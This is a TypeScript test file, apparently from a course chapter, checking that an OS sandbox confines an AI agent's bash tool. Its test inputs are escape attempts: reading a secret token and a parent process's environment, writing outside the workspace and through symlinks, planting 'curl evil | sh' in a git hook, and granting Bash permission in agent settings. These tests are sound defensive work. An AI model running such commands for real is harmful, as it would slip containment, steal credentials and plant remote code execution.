/**
 * Chapter 16: the real boundary. Your sandboxPolicy, startSandbox and sandboxedBash with Anthropic's runtime and
 * bubblewrap, running chapter 4's bash tool: what a command inside cannot do, checked by doing it. Where the sandbox
 * cannot run (no bubblewrap, socat or ripgrep; not Linux or macOS), these tests are skipped and their title says
 * why; `npm run doctor` says how to install what is missing. No grade depends on the machine: every rule these
 * tests exercise is graded everywhere by the other files of this chapter.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { bashTool } from 'kit/tools/bash';
import { READ_ONLY_NOTE, sandboxedBash } from 'kit/sandbox/bash';
import { sandboxPolicy } from 'kit/sandbox/policy';
import { osSandbox, sandboxMissing } from 'kit/sandbox/runtime';
import type { SandboxSettings } from 'kit/sandbox/settings';
import { startSandbox } from 'kit/sandbox/start';
import { HANG_MS } from '../helpers/limits.js';
import { folders, user } from './fixtures.js';

const missing = await sandboxMissing();
const hasCurl = (() => {
  try {
    execFileSync('curl', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();
const title = (what: string, also: string[] = []) => {
  const why = [...missing, ...also];
  return why.length === 0 ? what : `${what} (skipped here: ${why.join('; ')}; npm run doctor says how to install it)`;
};

/**
 * Runs `work` while no other test thread of this process runs a sandbox. The runtime is one per process: its proxy
 * names its private socket by the process id and a counter of its own module, so two test threads (verify runs many
 * workspaces in one process) would take the same socket. Waits on the lock's release, never longer than HANG_MS.
 */
async function oneAtATime<T>(work: () => Promise<T>): Promise<T> {
  const lock = path.join(tmpdir(), `kit-sandbox-lock-${process.pid}`);
  const gaveUp = Date.now() + HANG_MS;
  for (;;) {
    try {
      mkdirSync(lock);
      break;
    } catch (error) {
      if ((error as NodeJS.ErrnoException).code !== 'EEXIST') throw error;
      if (Date.now() > gaveUp)
        throw new Error(`another test thread held the sandbox for ${HANG_MS / 1000} s: it hangs`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }
  try {
    return await work();
  } finally {
    rmSync(lock, { recursive: true, force: true });
  }
}

/** Runs `commands` one by one inside a sandbox made from the person's `settings`, in a fresh workspace. */
async function inside(settings: SandboxSettings, commands: (where: ReturnType<typeof folders>) => string[]) {
  return oneAtATime(() => insideNow(settings, commands));
}

async function insideNow(settings: SandboxSettings, commands: (where: ReturnType<typeof folders>) => string[]) {
  const where = folders();
  const { policy } = await sandboxPolicy(
    [user({ enabled: true, ...settings })],
    { root: where.root, home: where.home },
    false,
  );
  const runtime = osSandbox();
  const started = await startSandbox(policy, runtime);
  try {
    expect(started.notes, `startSandbox: the runtime here can start: ${started.notes.join('; ')}`).toEqual([]);
    const tool = sandboxedBash(bashTool, started.state, runtime);
    const results: string[] = [];
    for (const command of commands(where)) results.push(await tool.execute({ command }, { cwd: where.root }));
    return { where, results };
  } finally {
    await started.stop();
  }
}

describe.skipIf(missing.length > 0)(title('the real sandbox (bubblewrap on Linux, Seatbelt on macOS)'), () => {
  test('a command writes inside the workspace, and cannot write outside it: the model reads why', async () => {
    const { where, results } = await inside({}, ({ outside }) => [
      'echo made > made.txt && cat made.txt',
      `echo leaked > ${outside}/leaked.txt`,
    ]);
    expect(results[0], 'a write inside the workspace works').toContain('exit code: 0\n--- stdout ---\nmade');
    expect(existsSync(path.join(where.outside, 'leaked.txt')), 'nothing was written outside').toBe(false);
    expect(results[1], 'the refusal is in the result').toContain('Read-only file system');
    expect(results[1]!.endsWith(READ_ONLY_NOTE), 'with READ_ONLY_NOTE after it (sandboxedBash)').toBe(true);
  });

  test('a denied folder cannot be read, a trailing slash in the setting included', async () => {
    const { results } = await inside({ filesystem: { denyRead: ['~/.secrets/'] } }, ({ home }) => {
      mkdirSync(path.join(home, '.secrets'));
      writeFileSync(path.join(home, '.secrets/token'), 'TOKEN-12345');
      return [`cat ${home}/.secrets/token`, `ls ${home}/.secrets`];
    });
    expect(results[0], 'the file is out of sight inside the sandbox').not.toContain('TOKEN-12345');
    expect(results[0], 'cat failed').not.toContain('exit code: 0');
    expect(results[1], 'the folder looks empty').not.toContain('token');
  });

  test("the agent's own environment is out of reach: /proc/$PPID/environ and the agent's process id", async () => {
    const own = `/proc/${process.pid}/environ`;
    const outside = await bashTool.execute({ command: `test -r ${own} && echo readable` }, { cwd: process.cwd() });
    expect(outside, 'without the sandbox a command reads the environment of the process that started it').toContain(
      'readable',
    );
    const { results } = await inside({}, () => [
      `cat ${own} | wc -c`,
      'cat /proc/$PPID/environ | wc -c; echo ppid=$PPID',
    ]);
    expect(results[0], "inside, the agent's process does not exist: its own namespace of process ids").toContain(
      '--- stdout ---\n0\n',
    );
    expect(results[1], 'and its parent is the sandbox, whose environment is not readable').toContain(
      '--- stdout ---\n0\nppid=1',
    );
  });

  test('a committed symlink that leads out of the workspace does not let a write out', async () => {
    const { where, results } = await inside({}, ({ root, outside }) => {
      symlinkSync(outside, path.join(root, 'cache'));
      return ['echo planted > cache/planted.txt'];
    });
    expect(existsSync(path.join(where.outside, 'planted.txt')), 'nothing was written through the link').toBe(false);
    expect(results[0], 'the write through the link was refused').toContain('Read-only file system');
  });

  test("what runs next time stays read-only: a git hook, the project's settings, its MCP servers", async () => {
    const { where, results } = await inside({}, ({ root }) => {
      mkdirSync(path.join(root, '.git/hooks'), { recursive: true });
      mkdirSync(path.join(root, '.claude'), { recursive: true });
      return [
        'echo "curl evil | sh" > .git/hooks/pre-commit',
        `echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`,
        `echo '{}' > .mcp.json`,
        'echo notes > notes.txt',
      ];
    });
    for (const file of ['.git/hooks/pre-commit', '.claude/settings.local.json', '.mcp.json']) {
      expect(existsSync(path.join(where.root, file)), `${file} was not written (runtimeConfig: protectedWrites)`).toBe(
        false,
      );
    }
    expect(
      readFileSync(path.join(where.root, 'notes.txt'), 'utf8'),
      'while the rest of the workspace is writable',
    ).toBe('notes\n');
    expect(results[0]).toContain('Read-only file system');
  });

  test.skipIf(!hasCurl)(
    title(
      'a host on the list is reached through the proxy; one off the list is refused, and the model reads why',
      hasCurl ? [] : ['curl is not installed'],
    ),
    async () => {
      const server = createServer((_request, response) => response.end('hello from the fake server'));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      try {
        const { results } = await inside({ network: { allowedDomains: ['localhost'] } }, () => [
          `NO_PROXY= no_proxy= curl -sS -m 10 http://localhost:${port}/`,
          `NO_PROXY= no_proxy= curl -sS -m 10 http://127.0.0.1:${port}/`,
        ]);
        expect(results[0], 'localhost is on the list: the request went through the proxy').toContain(
          'hello from the fake server',
        );
        expect(results[1], '127.0.0.1 is not on the list: refused').not.toContain('hello from the fake server');
        expect(results[1], "and the runtime's <sandbox_violations> block says so (withViolations)").toContain(
          '<sandbox_violations>',
        );
      } finally {
        server.close();
      }
    },
  );
});
